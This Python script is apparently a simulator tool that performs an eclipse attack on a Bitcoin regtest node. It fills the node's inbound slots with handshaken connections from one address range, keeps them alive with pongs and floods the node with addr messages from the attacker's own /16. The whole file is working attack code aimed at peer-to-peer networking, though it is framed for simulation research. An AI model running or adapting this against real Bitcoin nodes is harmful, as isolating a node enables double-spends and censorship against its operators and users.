#!/usr/bin/env python3
"""An eclipse attacker for the network simulator: from many addresses of one range it
fills a node's inbound slots with handshaken Bitcoin connections (plaintext v1), keeps
them alive by answering pings, and floods the node with addresses from its own range.

Run inside the attacker's network namespace, whose interface holds the source
addresses:

    eclipse_attacker.py --target 11.1.0.1:18444 --sources 11.200.0.1-11.200.0.60 \
        --duration 60

It prints one line per second: `attack <connected> <handshaken> <addr-messages sent>`,
and exits 0 when the duration is over (the attack's effect is judged by the
simulator, not here).
"""

import argparse
import asyncio
import hashlib
import ipaddress
import os
import random
import struct
import sys
import time

REGTEST_MAGIC = bytes.fromhex("fabfb5da")
PROTOCOL_VERSION = 70016
MAX_ADDR_PER_MESSAGE = 1000


def checksum(payload: bytes) -> bytes:
    return hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]


def frame(command: str, payload: bytes) -> bytes:
    name = command.encode().ljust(12, b"\0")
    return REGTEST_MAGIC + name + struct.pack("<I", len(payload)) + checksum(payload) + payload


def net_address(ip: str, port: int, services: int = 1) -> bytes:
    mapped = ipaddress.IPv6Address("::ffff:" + ip).packed
    return struct.pack("<Q", services) + mapped + struct.pack(">H", port)


def varint(n: int) -> bytes:
    if n < 0xFD:
        return bytes([n])
    if n <= 0xFFFF:
        return b"\xfd" + struct.pack("<H", n)
    return b"\xfe" + struct.pack("<I", n)


def version_payload(source: str, target: str, port: int) -> bytes:
    agent = b"/eclipse:0.1/"
    return (
        struct.pack("<iQq", PROTOCOL_VERSION, 1, int(time.time()))
        + net_address(target, port)
        + net_address(source, port)
        + struct.pack("<Q", random.getrandbits(64))
        + varint(len(agent))
        + agent
        + struct.pack("<i", 0)
        + b"\x01"
    )


def addr_payload(prefix: tuple, port: int, count: int) -> bytes:
    """`count` addresses from the attacker's own /16, seen just now."""
    now = int(time.time())
    entries = b"".join(
        struct.pack("<I", now)
        + net_address(f"{prefix[0]}.{prefix[1]}.{random.randrange(256)}.{random.randrange(1, 255)}", port)
        for _ in range(count)
    )
    return varint(count) + entries


class Stats:
    def __init__(self):
        self.connected = 0
        self.handshaken = 0
        self.addr_sent = 0


async def read_frame(reader: asyncio.StreamReader):
    header = await reader.readexactly(24)
    command = header[4:16].rstrip(b"\0").decode(errors="replace")
    (length,) = struct.unpack("<I", header[16:20])
    payload = await reader.readexactly(length)
    return command, payload


async def attack_from(source, target, port, prefix, stats, deadline):
    """One connection from `source`, re-made whenever the node drops it."""
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(target, port, local_addr=(source, 0)), 5
            )
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.5)
            continue
        stats.connected += 1
        try:
            writer.write(frame("version", version_payload(source, target, port)))
            await writer.drain()
            handshaken = False
            next_flood = time.monotonic()
            while time.monotonic() < deadline:
                try:
                    command, payload = await asyncio.wait_for(read_frame(reader), 0.5)
                except asyncio.TimeoutError:
                    command, payload = None, b""
                if command == "version":
                    writer.write(frame("verack", b""))
                elif command == "verack" and not handshaken:
                    handshaken = True
                    stats.handshaken += 1
                elif command == "ping":
                    writer.write(frame("pong", payload))
                if handshaken and time.monotonic() >= next_flood:
                    writer.write(frame("addr", addr_payload(prefix, port, MAX_ADDR_PER_MESSAGE)))
                    stats.addr_sent += 1
                    next_flood = time.monotonic() + 1.0
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            stats.connected -= 1
            writer.close()
        await asyncio.sleep(0.2)


def parse_sources(spec: str):
    first, _, last = spec.partition("-")
    start = ipaddress.IPv4Address(first)
    end = ipaddress.IPv4Address(last or first)
    return [str(ipaddress.IPv4Address(n)) for n in range(int(start), int(end) + 1)]


async def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="IP:PORT of the node under attack")
    parser.add_argument("--sources", required=True, help="FIRST-LAST source IPv4 addresses")
    parser.add_argument("--duration", type=float, default=60.0, help="seconds")
    args = parser.parse_args()
    target, _, port = args.target.rpartition(":")
    sources = parse_sources(args.sources)
    octets = sources[0].split(".")
    prefix = (octets[0], octets[1])
    stats = Stats()
    deadline = time.monotonic() + args.duration
    tasks = [
        asyncio.create_task(attack_from(s, target, int(port), prefix, stats, deadline))
        for s in sources
    ]
    while time.monotonic() < deadline:
        print(f"attack {stats.connected} {stats.handshaken} {stats.addr_sent}", flush=True)
        await asyncio.sleep(1.0)
    await asyncio.gather(*tasks, return_exceptions=True)
    return 0


if __name__ == "__main__":
    random.seed(os.getpid())
    sys.exit(asyncio.run(main()))
